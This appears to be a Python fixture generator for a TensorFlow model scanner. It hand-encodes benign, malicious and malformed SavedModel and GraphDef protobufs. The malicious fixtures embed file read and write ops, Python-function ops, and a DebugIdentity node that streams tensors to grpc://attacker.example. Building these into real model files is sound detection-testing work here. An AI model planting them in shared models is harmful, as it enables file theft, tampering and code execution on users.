#!/usr/bin/python3
"""TensorFlow graph fixtures: SavedModels (saved_model.pb) and frozen
GraphDefs (.pb) encoded field by field from TensorFlow's protos
(saved_model.proto, meta_graph.proto, graph.proto, node_def.proto,
function.proto), as tf.saved_model.save lays them out: the serving ops in
library functions called through StatefulPartitionedCall, the saver ops in
the graph. Malicious ones carry what the published proofs of concept use:
tf.io.read_file / write_file (ModelScan's TensorFlow examples),
tf.py_function, tf.io.matching_files, DebugIdentity.

usage: gen_tf.py OUT"""
import struct
import sys

from fixture_util import Manifest


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def ld(field, payload):
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def vi(field, value):
    return varint(field << 3) + varint(value)


def attr_s(key, s):
    return ld(5, ld(1, key) + ld(2, ld(2, s)))


def attr_func(key, name):
    return ld(5, ld(1, key) + ld(2, ld(10, ld(1, name))))


def node(name, op, inputs=(), attrs=b"", device=""):
    body = ld(1, name) + ld(2, op) + b"".join(ld(3, i) for i in inputs)
    if device:
        body += ld(4, device)
    return body + attrs


def function(name, nodes):
    return ld(1, ld(1, name)) + b"".join(ld(3, n) for n in nodes)


def graph(nodes, functions=()):
    g = b"".join(ld(1, n) for n in nodes)
    if functions:
        g += ld(2, b"".join(ld(1, f) for f in functions))
    return g + ld(4, vi(1, 1087))  # versions { producer: 1087 }


def saved_model(g):
    meta_info = ld(1, ld(4, "serve") + ld(5, "2.15.0"))
    return vi(1, 1) + ld(2, meta_info + ld(2, g))


SAVER = [node("saver_filename", "Placeholder"),
         node("SaveV2", "SaveV2", ["saver_filename"]),
         node("RestoreV2", "RestoreV2", ["saver_filename"]),
         node("MergeV2Checkpoints", "MergeV2Checkpoints"),
         node("ShardedFilename", "ShardedFilename"),
         node("StringJoin", "StringJoin")]
DENSE = [node("x", "Placeholder"), node("w", "ReadVariableOp", ["w_handle"]),
         node("MatMul", "MatMul", ["x", "w"]), node("BiasAdd", "BiasAdd", ["MatMul", "b"]),
         node("Relu", "Relu", ["BiasAdd"]), node("Identity", "Identity", ["Relu"])]


def tf2(serving_nodes, extra_graph=()):
    """A TensorFlow 2 SavedModel: serving_default calls a library function."""
    fn = function("__inference_serve_42", serving_nodes)
    nodes = [node("serving_default_x", "Placeholder"),
             node("w_handle", "VarHandleOp"),
             node("StatefulPartitionedCall", "StatefulPartitionedCall",
                  ["serving_default_x", "w_handle"],
                  attr_func("f", "__inference_serve_42"))] + SAVER + list(extra_graph)
    return saved_model(graph(nodes, [fn]))


def main():
    m = Manifest(sys.argv[1], "tf-savedmodel")
    # Benign.
    m.add("benign", "saved_model.pb", tf2(DENSE), why="TF2 SavedModel with saver ops")
    m.add("benign", "frozen_graph.pb",
          graph([node("x", "Placeholder"), node("w", "Const"), node("MatMul", "MatMul", ["x", "w"]),
                 node("Softmax", "Softmax", ["MatMul"])]), why="frozen GraphDef")
    m.add("benign", "tf1_saved_model.pb",
          saved_model(graph(DENSE + SAVER + [node("init", "NoOp")])),
          why="TF1 SavedModel, ops in the graph")

    # Malicious.
    m.add("malicious", "read-file.pb",
          tf2(DENSE + [node("path", "Const"), node("ReadFile", "ReadFile", ["path"])]),
          ["denied-op"], "tf.io.read_file in the serving function")
    m.add("malicious", "write-file.pb",
          tf2(DENSE + [node("WriteFile", "WriteFile", ["path", "contents"])]),
          ["denied-op"], "tf.io.write_file in the serving function")
    m.add("malicious", "py-function.pb",
          tf2(DENSE + [node("EagerPyFunc", "EagerPyFunc", ["x"], attr_s("token", "pyfunc_0"))]),
          ["denied-op"], "tf.py_function")
    m.add("malicious", "numpy-function.pb",
          graph(DENSE + [node("PyFunc", "PyFunc", ["x"], attr_s("token", "pyfunc_1"))]),
          ["denied-op"], "tf.numpy_function in a frozen graph")
    m.add("malicious", "matching-files.pb",
          saved_model(graph(DENSE + SAVER + [node("glob", "MatchingFiles", ["pattern"]),
                                             node("read", "ReadFile", ["glob"])])),
          ["denied-op"], "glob and read in a TF1 graph")
    m.add("malicious", "debug-identity.pb",
          graph(DENSE + [node("dbg", "DebugIdentity", ["Relu"],
                              ld(5, ld(1, "debug_urls") + ld(2, ld(1, ld(2, "grpc://attacker.example:6064")))))]),
          ["denied-op"], "tensors sent to a remote debugger")
    m.add("malicious", "init-write.pb",
          tf2(DENSE, [node("WriteFile", "WriteFile", ["p", "c"])]),
          ["denied-op"], "write in the graph itself, run at restore")

    # Malformed.
    good = tf2(DENSE)
    m.add("malformed", "truncated.pb", good[:len(good) // 2], ["protobuf"], "cut in half")
    m.add("malformed", "garbage.pb", b"\xff" * 64, ["protobuf"], "not protobuf")
    m.add("malformed", "length-lie.pb", ld(1, b"") [:1] + varint(1 << 40) + b"\0" * 8,
          ["protobuf"], "a length past the end")
    m.add("malformed", "saved_model.pb", vi(1, 1), ["empty"], "SavedModel without meta graphs")
    m.write()


if __name__ == "__main__":
    main()
